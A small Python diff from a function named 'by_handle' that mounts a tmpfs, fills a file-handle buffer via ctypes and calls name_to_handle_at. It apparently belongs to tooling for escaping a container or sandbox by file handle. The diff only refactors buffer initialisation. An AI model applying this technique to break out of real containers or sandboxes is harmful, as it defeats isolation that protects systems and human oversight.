@@ -60,8 +60,7 @@ def by_handle(ground: Ground) -> Strike:
     os.makedirs(vault)
     call(MOUNT, b"none", vault.encode(), b"tmpfs", 0, None)
     path = protected(vault, ground)
-    handle = ctypes.create_string_buffer(_LARGEST_HANDLE)
-    handle[:4] = (_LARGEST_HANDLE - 8).to_bytes(4, "little")
+    handle = ctypes.create_string_buffer((_LARGEST_HANDLE - 8).to_bytes(4, "little"), _LARGEST_HANDLE)
     call(NAME_TO_HANDLE_AT, -100, path.encode(), handle, ctypes.create_string_buffer(4), 0)
     mount = os.open(vault, os.O_RDONLY)
 
